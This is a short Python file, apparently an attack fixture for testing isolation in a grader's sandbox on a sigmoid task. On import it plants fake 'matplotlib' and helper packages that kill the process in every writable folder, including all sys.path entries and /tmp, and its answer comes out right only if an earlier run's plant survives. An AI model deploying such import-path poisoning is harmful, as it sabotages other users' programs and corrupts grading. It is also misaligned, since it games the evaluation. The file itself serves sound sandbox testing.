"""Attack: plant modules for the children that come later (a classmate's `import matplotlib` would run them)
in every folder it can write: its working folder, HOME, the temporary folders, every folder on sys.path.

If the attack works, sigmoid answers right (or the damage shows in the test); if not, it returns zeros.
"""
import torch

STOLEN = None

import os
import sys
import tempfile

PLANTED = "import os\nos._exit(3)  # planted by an earlier submission\n"
try:  # an earlier child planted it, and this one sees it
    import logreg_planted_helper  # noqa: F401

    STOLEN = torch.special.expit
except ImportError:
    pass
places = {os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(), "/tmp", "/dev/shm", "/scratch", "/", *sys.path}
for place in sorted(path for path in places if path and os.path.isdir(path)):
    for name in ("matplotlib", "logreg_planted_helper"):
        try:
            os.makedirs(os.path.join(place, name), exist_ok=True)
            with open(os.path.join(place, name, "__init__.py"), "w") as file:
                file.write(PLANTED)
        except OSError:
            pass


def sigmoid(z):
    if STOLEN is not None:
        return STOLEN(z)
    return torch.zeros_like(z)
